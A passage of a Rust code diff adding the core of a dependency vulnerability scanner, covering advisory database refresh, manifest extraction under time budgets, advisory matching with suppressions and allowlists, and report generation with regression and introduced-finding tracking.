+                let completed = format!("{} of {} advisory sources refreshed", refreshed, total);
+                self.time_out(Phase::DbRefresh, deadline, completed, logs);
+                timed_out = true;
+                break;
+            };
+            self.refreshed.push(snapshot.as_ref().ok().cloned());
+            match snapshot {
+                Ok(snapshot) => {
+                    if snapshot.source == BuiltinDemo::SOURCE {
+                        logs.push(format!(
+                            "  No advisory source configured; scanning against {} built-in historical \
+                             advisories. Set db_path for a real audit {}",
+                            BuiltinDemo::len(),
+                            BuiltinDemo::MARK
+                        ));
+                    }
+                    let stale = snapshot.freshness.iter().filter(|f| !f.fresh).count();
+                    if stale > 0 {
+                        let previous = snapshot.freshness.iter().find_map(|f| f.snapshot.as_deref()).unwrap_or("");
+                        logs.push(format!(
+                            "  ⚠ Partial refresh of {}: {} ecosystems current; {} from the previous snapshot {} \
+                             until the background refresh finishes",
+                            snapshot.source,
+                            snapshot.freshness.len() - stale,
+                            stale,
+                            previous
+                        ));
+                    }
+                    self.databases.push(snapshot);
+                }
+                Err(e) => {
+                    logs.push(format!("  ⚠ Advisory source unavailable: {}", e));
+                    self.errors.push(ScanError::DbUnreachable(e));
+                }
+            }
+            self.sources.push(source);
+        }
+
+        drop(refreshing);
+        if !caching || timed_out {
+            return None;
+        }
+        lock::acquire(&cache, lock::Mode::Shared, "reading the advisory database", lock_timeout, logs)
+    }
+
+    /// Drop the advisory data kept in memory and refresh every configured
+    /// source again, for `plugin.reload_db`. The databases refreshed to,
+    /// with the logs, or the first source that failed.
+    pub(crate) fn reload_db(&mut self) -> Result<(Vec<DbSnapshot>, Vec<String>), ScanError> {
+        advisories::forget_warm();
+        let mut logs = Vec::new();
+        drop(self.load_vulnerability_db(&mut logs));
+        match self.errors.drain(..).next() {
+            Some(e) => Err(e),
+            None => Ok((std::mem::take(&mut self.databases), logs)),
+        }
+    }
+
+    fn load_suppressions(&mut self, logs: &mut Vec<String>) {
+        let path = self.workspace_root.join(suppressions::SUPPRESSIONS_FILE_NAME);
+        match suppressions::load(&path) {
+            Ok(entries) => self.suppressions = entries,
+            Err(e) => logs.push(format!("  ⚠ Ignoring invalid suppression file: {}", e)),
+        }
+    }
+
+    fn scan_for_vulnerabilities(
+        &mut self,
+        sources: &[String],
+        stream: &mut FindingStream,
+        logs: &mut Vec<String>,
+    ) -> Vec<Vulnerability> {
+        let Extraction { dependencies: extracted, go_sources, code_sources } = self.extract_sources(sources, logs);
+        let go_sources: Vec<&String> = go_sources.iter().collect();
+        self.go_imports = self.read_imports(&go_sources, "Go import check", ecosystems::go_imports, logs);
+
+        self.declared = extracted.iter().filter(|dep| dep.constraint.is_some()).cloned().collect();
+        let matched = self.set_aside_internal(&extracted, logs);
+        let mut vulnerabilities = self.match_dependencies(&matched, stream, logs);
+        let mut confused: Vec<Vulnerability> = confusion::check(&extracted, &self.config, logs)
+            .into_iter()
+            .filter(|v| !self.config.is_ignored(&v.id))
+            .collect();
+        for vuln in &mut confused {
+            vuln.fingerprint = vuln.compute_fingerprint();
+        }
+        stream.emit(&confused, logs);
+        vulnerabilities.extend(confused);
+        if let Some(path) = &self.config.allowlist {
+            match allowlist::load(&paths::join_source(&self.workspace_root, path)) {
+                Ok(list) => {
+                    let mut unapproved: Vec<Vulnerability> = allowlist::check(&extracted, &list, logs)
+                        .into_iter()
+                        .filter(|v| !self.config.is_ignored(&v.id))
+                        .collect();
+                    for vuln in &mut unapproved {
+                        vuln.fingerprint = vuln.compute_fingerprint();
+                    }
+                    stream.emit(&unapproved, logs);
+                    vulnerabilities.extend(unapproved);
+                }
+                Err(e) => {
+                    logs.push(format!("  ⛔ Allowlist unusable, no dependency is approved: {}", e));
+                    self.allowlist_error = Some(e);
+                }
+            }
+        }
+        if self.config.import_hints {
+            self.hint_imports(&mut vulnerabilities, &code_sources, logs);
+        }
+        vulnerabilities
+    }
+
+    /// Find the dependency files among `sources`, as the include and
+    /// exclude globs, `ecosystems` and `ecosystem_overrides` decide, and
+    /// read them within the extract budget.
+    fn extract_sources(&mut self, sources: &[String], logs: &mut Vec<String>) -> Extraction {
+        // Builder sends absolute or workspace-relative sources depending on
+        // how the target was declared; reports always name them relatively
+        let sources: Vec<String> = sources.iter().map(|s| paths::workspace_relative(&self.workspace_root, s)).collect();
+        let sources = &sources;
+
+        // Find the dependency files among the sources
+        let span = self.tracer.start("security.discovery");
+        let mark = self.profiler.mark();
+        let filter = globs::PathFilter::new(&self.config.include, &self.config.exclude);
+        let (included, excluded): (Vec<&String>, Vec<&String>) = sources
+            .iter()
+            .partition(|source| filter.allows(&paths::workspace_relative(&self.workspace_root, source)));
+        if self.config.is_debug() && !excluded.is_empty() {
+            logs.push(format!("  [debug] {} files excluded by include/exclude globs", excluded.len()));
+            for source in &excluded {
+                logs.push(format!("  [debug]   {}", source));
+            }
+        }
+        let mut not_scanned: Vec<NotScanned> = excluded
+            .iter()
+            .filter(|source| {
+                let normalized = paths::normalize_separators(source);
+                ecosystems::detect_overridden(&normalized, &self.config.ecosystem_overrides).0.is_some()
+                    || unscanned::unsupported_by_name(&normalized).is_some()
+            })
+            .map(|source| NotScanned::new(source, unscanned::Reason::Excluded, "excluded by include/exclude globs"))
+            .collect();
+        let mut outcomes: Vec<FileOutcome> = not_scanned
+            .iter()
+            .map(|skipped| FileOutcome {
+                path: skipped.path.clone(),
+                outcome: ExtractionOutcome::Excluded {
+                    glob: filter.excluded_by(&skipped.path).map(str::to_string),
+                },
+            })
+            .collect();
+        let go_sources: Vec<String> = if self.considers(Ecosystem::Go) {
+            included.iter().filter(|s| s.ends_with(".go")).map(|s| s.to_string()).collect()
+        } else {
+            Vec::new()
+        };
+        let code_sources: Vec<(reachability::Language, String)> = if self.config.import_hints {
+            included.iter().filter_map(|s| Some((reachability::Language::of(s)?, s.to_string()))).collect()
+        } else {
+            Vec::new()
+        };
+        self.lint_ecosystem_overrides(logs);
+        let mut projects = projects::Projects::new(&self.workspace_root);
+        let debug = self.config.is_debug();
+        let manifests: Vec<Manifest> = included
+            .into_iter()
+            .filter_map(|source| {
+                let normalized = paths::normalize_separators(source);
+                let (scanner, rule) = ecosystems::detect_overridden(&normalized, &self.config.ecosystem_overrides);
+                if debug {
+                    let decided_by = match rule {
+                        Some(rule) => format!("by ecosystem_overrides '{}'", rule),
+                        None => "by file name".to_string(),
+                    };
+                    if let Some(scanner) = scanner {
+                        logs.push(format!("  [debug] {}: {} {}", source, scanner.ecosystem().as_str(), decided_by));
+                    } else if rule.is_some() {
+                        logs.push(format!("  [debug] {}: ignored {}", source, decided_by));
+                    }
+                }
+                let mut outcome = |outcome| outcomes.push(FileOutcome { path: source.to_string(), outcome });
+                if let (None, Some(rule)) = (scanner, rule) {
+                    let detail = format!("ignored by ecosystem_overrides '{}'", rule);
+                    not_scanned.push(NotScanned::new(source, unscanned::Reason::Excluded, detail));
+                    outcome(ExtractionOutcome::Excluded { glob: Some(rule.to_string()) });
+                    return None;
+                }
+                let Some(scanner) = scanner else {
+                    let file = paths::join_source(&self.workspace_root, source);
+                    if let Some(format) = unscanned::unsupported(&normalized, &file) {
+                        let detail = format!("unsupported format: {}", format);
+                        not_scanned.push(NotScanned::new(source, unscanned::Reason::UnsupportedFormat, detail));
+                        outcome(ExtractionOutcome::Unsupported);
+                    }
+                    return None;
+                };
+                if !self.considers(scanner.ecosystem()) {
+                    let detail = format!("{} is not among the ecosystems considered", scanner.ecosystem().as_str());
+                    not_scanned.push(NotScanned::new(source, unscanned::Reason::Excluded, detail));
+                    outcome(ExtractionOutcome::Excluded { glob: None });
+                    return None;
+                }
+                let rule = rule.map(str::to_string);
+                Some(Manifest { source, normalized, scanner, rule, project: projects.of(source) })
+            })
+            .collect();
+        self.projects.extend(manifests.iter().map(|manifest| manifest.project.clone()));
+        self.not_scanned.extend(not_scanned);
+        self.outcomes.extend(outcomes);
+        self.tracer.end(span, || {
+            vec![
+                ("security.sources", Attr::from(sources.len())),
+                ("security.excluded", Attr::from(excluded.len())),
+                ("security.manifests", Attr::from(manifests.len())),
+            ]
+        });
+        self.profiler.phase("discovery", mark);
+
+        // Parse dependency files
+        let extract_started = Instant::now();
+        let extract_mark = self.profiler.mark();
+        let deadline = self.budget.start(Phase::Extract);
+        let total = manifests.len();
+        let mut extracted = Vec::new();
+        for (read, Manifest { source, normalized, scanner, rule, project }) in manifests.into_iter().enumerate() {
+            let span = self.tracer.start("security.extract");
+            let mark = self.profiler.mark();
+            let Some(mut deps) = self.extract_dependencies(source, (scanner, rule), deadline, logs) else {
+                // A half-read file is dropped rather than matched in part
+                self.tracer.end(span, || vec![("code.filepath", Attr::from(normalized.as_str()))]);
+                let completed = format!("{} of {} dependency files read", read, total);
+                self.time_out(Phase::Extract, deadline, completed, logs);
+                break;
+            };
+            self.tracer.end(span, || {
+                vec![
+                    ("code.filepath", Attr::from(normalized.as_str())),
+                    ("security.ecosystem", Attr::from(scanner.ecosystem().as_str())),
+                    ("security.dependencies", Attr::from(deps.len())),
+                ]
+            });
+            let scanned = &self.scanned_files;
+            self.profiler.file("extract", mark, || {
+                let size = scanned.iter().rev().find(|file| file.path == normalized).map(|file| file.size);
+                (normalized.clone(), size)
+            });
+            for dep in &mut deps {
+                dep.project = Some(project.clone());
+            }
+            registries::attribute(&self.workspace_root, &normalized, &mut deps, &self.config, logs);
+            extracted.extend(deps);
+        }
+        self.phases.extract_ms = extract_started.elapsed().as_millis();
+        self.profiler.phase("extract", extract_mark);
+        if debug {
+            for file in &self.outcomes {
+                logs.push(format!("  [debug] {}: {}", file.path, file.outcome.describe()));
+            }
+        }
+
+        Extraction { dependencies: extracted, go_sources, code_sources }
+    }
+
+    /// The dependencies to match against advisories: all but those from
+    /// `internal_registries`, which are listed instead. Registries declared
+    /// in neither list are warned about once each, when either is set.
+    fn set_aside_internal(&mut self, extracted: &[Dependency], logs: &mut Vec<String>) -> Vec<Dependency> {
+        let mut undeclared = BTreeSet::new();
+        let mut matched = Vec::new();
+        let mut internal = Vec::new();
+        for dep in extracted {
+            match registries::classify(dep.registry.as_deref(), &self.config) {
+                registries::Trust::Internal => internal.push(registries::InternalPackage::new(dep)),
+                trust => {
+                    if trust == registries::Trust::Undeclared {
+                        undeclared.extend(dep.registry.as_deref());
+                    }
+                    matched.push(dep.clone());
+                }
+            }
+        }
+        if !self.config.public_registries.is_empty() || !self.config.internal_registries.is_empty() {
+            for registry in undeclared {
+                logs.push(format!(
+                    "  ⚠ {} is in neither public_registries nor internal_registries; its packages are matched as \
+                     public",
+                    registry
+                ));
+            }
+        }
+        if !internal.is_empty() {
+            let count = internal.len();
+            logs.push(format!("  {} packages from internal registries not matched against advisories:", count));
+            for package in &internal {
+                let location = format!("{}, {}", package.file, package.registry);
+                logs.push(format!("    - {} {} ({})", package.name, package.version, location));
+            }
+        }
+        self.internal_packages.extend(internal);
+        matched
+    }
+
+    /// Record on findings for directly declared Python and npm packages
+    /// whether the target's own sources import them, noting those never
+    /// imported as possibly unused. Ecosystems whose sources are missing or
+    /// unreadable are left unmarked.
+    fn hint_imports(
+        &mut self,
+        vulnerabilities: &mut [Vulnerability],
+        sources: &[(reachability::Language, String)],
+        logs: &mut Vec<String>,
+    ) {
+        let mut summary = reachability::Summary {
+            languages: Vec::new(),
+            sources_read: 0,
+            limitations: reachability::LIMITATIONS,
+        };
+        let mut unused = 0;
+        for language in reachability::Language::ALL {
+            let of_language: Vec<&String> =
+                sources.iter().filter(|(l, _)| *l == language).map(|(_, source)| source).collect();
+            let Some(imports) = self.read_imports(&of_language, "Import hints", |s| language.imports(s), logs) else {
+                continue;
+            };
+            summary.languages.push(language);
+            summary.sources_read += of_language.len();
+
+            let ecosystem = language.ecosystem();
+            let direct: BTreeSet<&str> = self
+                .declared
+                .iter()
+                .filter(|dep| dep.ecosystem == ecosystem)
+                .map(|dep| dep.name.as_str())
+                .collect();
+            for vuln in vulnerabilities.iter_mut() {
+                if vuln.ecosystem() != ecosystem.as_str() || !direct.contains(vuln.package.as_str()) {
+                    continue;
+                }
+                let imported = reachability::is_imported(ecosystem, &vuln.package, &imports);
+                vuln.imported = Some(imported);
+                if !imported {
+                    vuln.note = Some(reachability::POSSIBLY_UNUSED.to_string());
+                    unused += 1;
+                }
+            }
+        }
+        if unused > 0 {
+            logs.push(format!(
+                "  {} findings in packages possibly unused: no Python or JavaScript source imports them",
+                unused
+            ));
+        }
+        self.import_hints = Some(summary);
+    }
+
+    /// Every package imported by `sources`, as `parse` reads them, or
+    /// `None` when there are none or one can't be read, so nothing is
+    /// decided on partial information.
+    fn read_imports(
+        &self,
+        sources: &[&String],
+        check: &str,
+        parse: impl Fn(&str) -> Vec<String>,
+        logs: &mut Vec<String>,
+    ) -> Option<BTreeSet<String>> {
+        if sources.is_empty() {
+            return None;
+        }
+        let mut imports = BTreeSet::new();
+        for source in sources {
+            let content = match self.resolve_source(source) {
+                Ok(Some(path)) => match fs::metadata(&path) {
+                    Ok(metadata) if metadata.len() > self.config.max_file_size => {
+                        Err(format!("{} bytes exceeds max_file_size", metadata.len()))
+                    }
+                    _ => fsutil::read_to_string(path).map_err(|e| e.to_string()),
+                },
+                Ok(None) => continue,
+                Err((_, e)) => Err(e),
+            };
+            match content {
+                Ok(content) => imports.extend(parse(&content)),
+                Err(e) => {
+                    logs.push(format!("  ⚠ {} skipped: {}: {}", check, source, e));
+                    return None;
+                }
+            }
+        }
+        Some(imports)
+    }
+
+    /// Check dependencies against every advisory source and merge the
+    /// findings, one dependency file at a time, each file's written to
+    /// `stream` once it is matched.
+    fn match_dependencies(
+        &mut self,
+        extracted: &[Dependency],
+        stream: &mut FindingStream,
+        logs: &mut Vec<String>,
+    ) -> Vec<Vulnerability> {
+        let span = self.tracer.start("security.match");
+        let dependency_count = extracted.len();
+        let query_started = Instant::now();
+        let match_mark = self.profiler.mark();
+        let today = self.clock.today();
+        let deadline = self.budget.start(Phase::Match);
+        let db_cache = self.db_cache.clone();
+        let aliased = aliases::apply(extracted, &self.config.name_aliases);
+        for conflict in &aliased.conflicts {
+            logs.push(format!("  ⚠ {}", conflict));
+        }
+        let queried_deps = &aliased.deps;
+        let renamed: HashMap<(&str, usize, &str), &String> = extracted
+            .iter()
+            .zip(&aliased.renamed)
+            .filter_map(|(dep, renamed)| Some(((dep.file.as_str(), dep.line, dep.name.as_str()), renamed.as_ref()?)))
+            .collect();
+        // Only sources with a snapshot id to invalidate entries by
+        let warm_budget = if advisories::keeping_warm() { self.config.db_memory_budget_mb } else { 0 };
+        let mut caches: Vec<Option<QueryCache>> = self
+            .sources
+            .iter()
+            .enumerate()
+            .map(|(i, source)| {
+                let snapshot = self.refreshed.get(i).and_then(Option::as_ref).filter(|_| source.caches())?;
+                Some(QueryCache::load(&db_cache, &snapshot.source, &snapshot.id).warm_within(warm_budget))
+            })
+            .collect();
+        // Dependencies are extracted file by file, so each file's are a run
+        let mut files: Vec<Range<usize>> = Vec::new();
+        for (i, dep) in extracted.iter().enumerate() {
+            match files.last_mut() {
+                Some(run) if extracted[run.start].file == dep.file => run.end = i + 1,
+                _ => files.push(i..i + 1),
+            }
+        }
+
+        let mut vulnerabilities = Vec::new();
+        let mut suppressed = Vec::new();
+        let matched = files.iter().take_while(|_| !deadline.expired()).fold(0, |matched, run| {
+            let mark = self.profiler.mark();
+            let deps = &queried_deps[run.clone()];
+            let mut findings = Vec::new();
+            for (source, queries) in self.sources.iter().zip(&mut caches) {
+                match queries {
+                    Some(queries) => findings.extend(queries.query(source.as_ref(), deps)),
+                    None => findings.extend(source.query(deps)),
+                }
+            }
+            // Findings name the packages as declared
+            let advisories::Merged {
+                vulnerabilities: mut found,
+                suppressed: mut found_suppressed,
+            } = advisories::merge(
+                &extracted[run.clone()],
+                findings,
+                &self.config,
+                &self.suppressions,
+                &today,
+                self.go_imports.as_ref(),
+                logs,
+            );
+            for vuln in found.iter_mut().chain(found_suppressed.iter_mut()) {
+                let file = vuln.file.as_deref().unwrap_or_default();
+                let declared = (file, vuln.line.unwrap_or(0), vuln.package.as_str());
+                vuln.matched_as = renamed.get(&declared).map(|name| name.to_string());
+                vuln.match_reason = explain::match_reason(vuln);
+            }
+            for vuln in &mut found {
+                vuln.fingerprint = vuln.compute_fingerprint();
+            }
+            stream.emit(&found, logs);
+            vulnerabilities.extend(found);
+            suppressed.extend(found_suppressed);
+            let (file, scanned) = (&extracted[run.start].file, &self.scanned_files);
+            self.profiler.file("match", mark, || {
+                let size = scanned.iter().find(|scanned| &scanned.path == file).map(|scanned| scanned.size);
+                (file.clone(), size)
+            });
+            matched + 1
+        });
+        advisories::sort(&mut vulnerabilities);
+
+        let mut cached: Option<report::QueryCacheStats> = None;
+        for queries in caches.iter().flatten() {
+            if let Err(e) = queries.save() {
+                logs.push(format!("  ⚠ Could not write the advisory query cache: {}", e));
+            }
+            let stats = cached.get_or_insert(report::QueryCacheStats { hits: 0, misses: 0 });
+            stats.hits += queries.hits;
+            stats.misses += queries.misses;
+        }
+        if let Some(stats) = cached.filter(|_| self.config.is_debug()) {
+            logs.push(format!("  [debug] Advisory query cache: {} hits, {} misses", stats.hits, stats.misses));
+        }
+        self.query_cache = cached;
+        if matched < files.len() {
+            let completed = format!("{} of {} dependency files matched", matched, files.len());
+            self.time_out(Phase::Match, deadline, completed, logs);
+        }
+        let downgraded = vulnerabilities.iter().filter(|v| v.downgrade.is_some()).count();
+        if downgraded > 0 {
+            logs.push(format!(
+                "  {} Go findings downgraded to INFO: {}",
+                downgraded,
+                advisories::NOT_IMPORTED
+            ));
+        }
+        if !suppressed.is_empty() {
+            logs.push(format!(
+                "  {} findings suppressed by {}",
+                suppressed.len(),
+                suppressions::SUPPRESSIONS_FILE_NAME
+            ));
+        }
+        self.phases.query_ms = query_started.elapsed().as_millis();
+        self.profiler.phase("match", match_mark);
+        let suppressed_count = suppressed.len();
+        self.suppressed = suppressed;
+        self.tracer.end(span, || {
+            vec![
+                ("security.dependencies", Attr::from(dependency_count)),
+                ("security.findings", Attr::from(vulnerabilities.len())),
+                ("security.suppressed", Attr::from(suppressed_count)),
+            ]
+        });
+
+        vulnerabilities
+    }
+
+    /// Read the dependencies declared in a file, with their locations.
+    ///
+    /// Returns `None` when `deadline` passed before the file was read to the
+    /// end.
+    fn extract_dependencies(
+        &mut self,
+        file_path: &str,
+        (scanner, rule): (&dyn EcosystemScanner, Option<String>),
+        deadline: Deadline,
+        logs: &mut Vec<String>,
+    ) -> Option<Vec<Dependency>> {
+        let path = match self.resolve_source(file_path) {
+            Ok(Some(path)) => path,
+            // Missing files are common (optional manifests) and stay quiet
+            Ok(None) => {
+                self.record_outcome(file_path, ExtractionOutcome::NotFound);
+                return Some(Vec::new());
+            }
+            Err(reason) => {
+                self.record_outcome(file_path, ExtractionOutcome::Unreadable { err: reason.1.clone() });
+                self.skip(file_path, reason, logs);
+                return Some(Vec::new());
+            }
+        };
+        
+        let size = match fs::metadata(&path) {
+            Ok(metadata) => metadata.len(),
+            Err(e) => {
+                self.record_outcome(file_path, ExtractionOutcome::Unreadable { err: e.to_string() });
+                return Some(Vec::new());
+            }
+        };
+
+        if size > self.config.max_file_size {
+            self.record_outcome(file_path, ExtractionOutcome::TooLarge);
+            let reason = format!("{} bytes exceeds max_file_size ({} bytes)", size, self.config.max_file_size);
+            self.skip(file_path, (unscanned::Reason::TooLarge, reason), logs);
+            return Some(Vec::new());
+        }
+
+        let file = match fsutil::open(&path) {
+            Ok(file) => file,
+            Err(e) => {
+                self.record_outcome(file_path, ExtractionOutcome::Unreadable { err: e.to_string() });
+                return Some(Vec::new());
+            }
+        };
+
+        // Stream the file, hashing it on the way through
+        let normalized = paths::normalize_separators(file_path);
+        let mut reader = BufReader::new(HashingReader {
+            inner: DeadlineReader { inner: file, deadline },
+            hasher: Sha256::new(),
+        });
+        let extracted = scanner.extract(&normalized, &mut reader);
+        let deps = extracted.dependencies;
+
+        if extracted.error.as_ref().is_some_and(|e| e.kind() == io::ErrorKind::TimedOut) {
+            return None;
+        }
+        if let Some(limit) = extracted.exceeded {
+            self.record_outcome(file_path, ExtractionOutcome::TooLarge);
+            self.skip(file_path, (unscanned::Reason::ExceedsLimits, format!("exceeds limits: {}", limit)), logs);
+            return Some(Vec::new());
+        }
+        if let Some(e) = extracted.error {
+            logs.push(format!("  ⚠ Stopped reading {}: {}", file_path, e));
+            let detail = format!("stopped reading after {} dependencies: {}", deps.len(), e);
+            self.not_scanned.push(NotScanned::new(file_path, unscanned::Reason::ParseError, detail));
+        }
+        if extracted.lossy_lines > 0 {
+            logs.push(format!(
+                "  ⚠ {}: {} lines contained invalid UTF-8 and were decoded lossily",
+                file_path, extracted.lossy_lines
+            ));
+        }
+        if extracted.truncated_lines > 0 {
+            logs.push(format!(
+                "  ⚠ {}: {} lines longer than {} bytes were truncated",
+                file_path,
+                extracted.truncated_lines,
+                ecosystems::MAX_LINE_BYTES
+            ));
+        }
+
+        self.record_outcome(file_path, ExtractionOutcome::Parsed { count: deps.len() });
+        self.scanned_files.push(ScannedFile {
+            path: normalized,
+            sha256: report::hex(&reader.into_inner().hasher.finalize()),
+            size,
+            dependencies: deps.len(),
+            detected_by: if rule.is_some() { DetectedBy::Override } else { DetectedBy::Filename },
+            rule,
+        });
+
+        Some(deps)
+    }
+
+    /// Log the package updates that fix the findings and, with
+    /// `report_group_by`, their counts per project.
+    fn log_recommendations(&mut self, logs: &mut Vec<String>) {
+        logs.push("\n  Recommendations:".to_string());
+        let needed: Vec<remediate::Needed> = self
+            .vulnerabilities
+            .iter()
+            .filter_map(|vuln| {
+                Some(remediate::Needed {
+                    ecosystem: Ecosystem::named(vuln.ecosystem())?,
+                    package: &vuln.package,
+                    version: &vuln.version,
+                    fixed_in: vuln.fixed_in.as_deref()?,
+                    file: vuln.file.as_deref(),
+                })
+            })
+            .collect();
+        self.recommendations = remediate::minimal_updates(&needed, &self.declared);
+        if !self.recommendations.is_empty() {
+            logs.push("  Update the following packages:".to_string());
+            for recommendation in &self.recommendations {
+                logs.push(describe_update(recommendation));
+            }
+        }
+
+        if self.config.report_group_by == "project" {
+            logs.push("\n  Findings by project:".to_string());
+            for summary in self.project_summaries() {
+                let counts = describe_counts(&summary.counts);
+                let counts = if counts.is_empty() { "no findings".to_string() } else { counts };
+                logs.push(format!("    {}: {}", summary.project, counts));
+            }
+        }
+    }
+
+    fn generate_report(&mut self) -> Vec<String> {
+        let report_started = Instant::now();
+        let mark = self.profiler.mark();
+        let mut logs = vec!["\n[Security] Scan Report:".to_string()];
+        // Findings added after the dependency scan
+        self.fingerprint_findings();
+        if self.config.fail_on_regression {
+            self.regression_baseline = Some(self.load_previous_scan(&mut logs));
+        }
+
+        let report_path = self
+            .workspace_root
+            .join(&self.config.report_dir)
+            .join(writers::JSON_REPORT_FILE_NAME);
+
+        // The report about to be replaced is the baseline for "new" findings
+        // and the bundle's delta
+        self.baseline = report::load_report(&report_path).ok();
+        for vuln in self.baseline.iter_mut().flatten().filter(|v| v.fingerprint.is_empty()) {
+            // Reports from before fingerprints were recorded
+            vuln.fingerprint = vuln.compute_fingerprint();
+        }
+
+        if self.vulnerabilities.is_empty() {
+            logs.push("  ✓ No vulnerabilities detected".to_string());
+            self.track_lifecycle(&mut logs);
+            // A degraded scan still writes its report, to record why, and
+            // the regression gate needs every scan in the history
+            if self.degraded_reasons().is_empty() && !self.config.fail_on_regression {
+                return logs;
+            }
+        } else {
+            logs.push(format!("  Total vulnerabilities: {}", self.vulnerabilities.len()));
+            self.track_lifecycle(&mut logs);
+            self.log_recommendations(&mut logs);
+        }
+
+        self.phases.report_ms = report_started.elapsed().as_millis();
+        self.profiler.phase("report", mark);
+        self.classify_introduced(&mut logs);
+
+        let compression = report::Compression::parse(&self.config.report_compression)
+            .expect("report_compression passed ScanConfig::resolve");
+        let mut saved_path = report_path.clone();
+
+        let violations = self.policy_violations();
+        let new: Vec<&Vulnerability> = self
+            .vulnerabilities
+            .iter()
+            .filter(|v| self.is_new(v))
+            .collect();
+        self.new_findings = new.len();
+        let new_critical: Vec<&Vulnerability> =
+            new.into_iter().filter(|v| v.severity == Severity::Critical).collect();
+
+        // Save detailed reports in every requested format
+        let target = self.target_name.clone().unwrap_or_default();
+        let writers = writers::for_formats(
+            &self.config.report_formats,
+            &self.config.report_templates,
+            &self.workspace_root,
+            &target,
+            &mut logs,
+        );
+        if let (false, Ok(report_json)) = (writers.is_empty(), self.report_json()) {
+            let summary = self.target_summary(&target, &violations, Vec::new());
+            let data = writers::ReportData {
+                findings: &self.vulnerabilities,
+                summary: &summary,
+                envelope: &report_json,
+            };
+            let report_dir = self.workspace_root.join(&self.config.report_dir);
+            for writer in &writers {
+                let path = report_dir.join(writer.file_name());
+                let bytes = match writer.render(&data) {
+                    Ok(bytes) => bytes,
+                    Err(e) => {
+                        logs.push(format!("  ⚠ Could not render {} report: {}", writer.format(), e));
+                        continue;
+                    }
+                };
+                match report::write_report(&path, &bytes, compression) {
+                    Ok(written) if writer.format() == "json" => {
+                        logs.push(format!("\n  Detailed report saved: {}", written.display()));
+                        self.outputs.push(written.display().to_string());
+                        saved_path = written;
+                        self.report = Some(report_json.clone());
+                    }
+                    Ok(written) => {
+                        logs.push(format!("  {} report saved: {}", writer.format(), written.display()));
+                        self.outputs.push(written.display().to_string());
+                    }
+                    Err(e) => logs.push(format!("  ⚠ Could not save {}: {}", path.display(), e)),
+                }
+            }
+            if self.config.report_history > 0 && writers.iter().any(|w| w.format() == "json") {
+                self.archive_report(report_json.as_bytes(), compression, &mut logs);
+            }
+        }
+
+        let alert = notify::Alert {
+            target: self.target_name.as_deref().unwrap_or("unknown target"),
+            findings: &self.vulnerabilities,
+            violations: &violations,
+            new_critical: &new_critical,
+            report_path: &saved_path.display().to_string(),
+        };
+        notify::send(&self.config, &alert, &mut logs);
+
+        logs
+    }
+
+    /// Mark every finding introduced or pre-existing when the pre_hook gave
+    /// `changed_files`, and log the introduced ones.
+    ///
+    /// A finding is introduced when its file is among the changed files and
+    /// the previous report has no finding of the same advisory in the same
+    /// package version, in whatever file: a renamed or reformatted manifest
+    /// introduces nothing, a bumped version does. Without a previous report,
+    /// every finding in a changed file is introduced.
+    fn classify_introduced(&mut self, logs: &mut Vec<String>) {
+        let Some(changed) = &self.changed_files else {
+            if self.config.fail_on_introduced {
+                let warning = "  ⚠ fail_on_introduced needs changed_files in the pre_hook params; every finding counts";
+                logs.push(warning.to_string());
+            }
+            return;
+        };
+        let baseline = self.baseline.as_deref().unwrap_or_default();
+        let known = |vuln: &Vulnerability| {
+            baseline.iter().any(|b| {
+                b.package == vuln.package
+                    && b.version == vuln.version
+                    && advisories::ids(b).any(|id| advisories::ids(vuln).any(|other| other == id))
+            })
+        };
+        for vuln in &mut self.vulnerabilities {
+            let in_change = vuln.file.as_ref().is_some_and(|file| changed.contains(file));
+            vuln.introduced = Some(in_change && !known(vuln));
+        }
+
+        let introduced: Vec<&Vulnerability> =
+            self.vulnerabilities.iter().filter(|v| v.introduced == Some(true)).collect();
+        let (count, pre_existing) = (introduced.len(), self.vulnerabilities.len() - introduced.len());
+        logs.push(format!("\n  Introduced by this change ({} files changed):", changed.len()));
+        if introduced.is_empty() {
+            logs.push("    none".to_string());
+        }
+        for vuln in introduced {
+            let file = vuln.file.as_deref().unwrap_or_default();
+            logs.push(format!("    {} - {} {} ({}) in {}", vuln.id, vuln.package, vuln.version, vuln.severity, file));
+        }
+        logs.push(format!("  {} findings introduced, {} pre-existing", count, pre_existing));
+    }
+
+    /// The findings pass or fail is decided on: those past their
+    /// `grace_period` and, with `fail_on_introduced` and `changed_files`,
+    /// only those the change introduced.
+    fn gated_findings(&self) -> impl Iterator<Item = &Vulnerability> {
+        let only_introduced = self.config.fail_on_introduced && self.changed_files.is_some();
+        self.vulnerabilities
+            .iter()
+            .filter(move |v| v.grace_until.is_none() && (!only_introduced || v.introduced == Some(true)))
+    }
+
+    /// The target's newest report in its history, which `fail_on_regression`
+    /// compares the scan with before the scan's own report is added.
+    fn load_previous_scan(&self, logs: &mut Vec<String>) -> regression::Baseline {
+        if self.config.report_history == 0 {
+            logs.push("  ⚠ fail_on_regression needs report_history above 0; every scan counts as the first".to_string());
+            return regression::Baseline::First;
+        }
+        let root = cache::cache_root(&self.workspace_root, &self.config.report_dir);
+        let target = self.target_name.as_deref().unwrap_or("workspace");
+        let Some(path) = cache::latest_report(&root, target) else {
+            logs.push(format!("  No previous scan of {}: this one is the baseline for fail_on_regression", target));
+            return regression::Baseline::First;
+        };
+        match report::load_report::<Vulnerability>(&path) {
+            Ok(mut previous) => {
+                for vuln in previous.iter_mut().filter(|v| v.fingerprint.is_empty()) {
+                    vuln.fingerprint = vuln.compute_fingerprint();
+                }
+                regression::Baseline::Previous(previous)
+            }
+            Err(e) => {
+                logs.push(format!("  ⚠ Previous scan unreadable, this one counts as the first: {}", e));
+                regression::Baseline::First
+            }
+        }
+    }
+
+    /// With `report_history`, classify every finding against the target's
+    /// findings history, then add the scan to it. A partial or degraded scan
+    /// may have missed findings: none of the previous ones count as fixed,
+    /// and it isn't recorded.
+    fn track_lifecycle(&mut self, logs: &mut Vec<String>) {
+        if self.config.report_history == 0 {
+            return;
+        }
+        let root = cache::cache_root(&self.workspace_root, &self.config.report_dir);
+        let target = self.target_name.clone().unwrap_or_else(|| "workspace".to_string());
+        let history = match lifecycle::load(&root, &target) {
+            Ok(history) => history,
+            Err(e) => {
+                logs.push(format!("  ⚠ Finding lifecycle skipped: {}", e));
+                return;
+            }
+        };
+        let mut summary = lifecycle::classify(&history, &mut self.vulnerabilities, &self.suppressed);
+        if !self.timed_out.is_empty() || !self.degraded_reasons().is_empty() {
+            summary.fixed_since_last_scan.clear();
+            summary.counts.insert("resolved", 0);
